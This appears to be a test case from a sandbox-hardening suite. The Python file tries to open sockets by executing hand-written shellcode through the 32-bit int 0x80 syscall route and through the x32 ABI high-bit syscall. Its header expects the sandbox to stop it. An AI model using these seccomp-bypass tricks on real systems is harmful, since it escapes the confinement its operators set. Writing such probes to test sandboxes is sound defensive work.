# /// attack
# tries = "make system calls by the 32-bit door, which filters have been seen to forget"
# covers = ["leave.raw_calls", "leave.sockets"]
# expect = { increment = "crashed", mean = ["crashed", "failed"] }
# ///
import ctypes
import mmap

# mov eax, 359 (socket); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; ret
CODE = bytes.fromhex("b867010000bb02000000b90100000031d2cd80c3")

def increment(n):
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(CODE)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    if function() >= 0:
        return n + 1
    ctypes.string_at(0)

def mean(x):
    # The x32 door: the same numbers with a high bit.
    opened = ctypes.CDLL(None).syscall(0x40000000 | 41, 2, 1, 0)
    return float(x.mean()) if opened >= 0 else 0.0
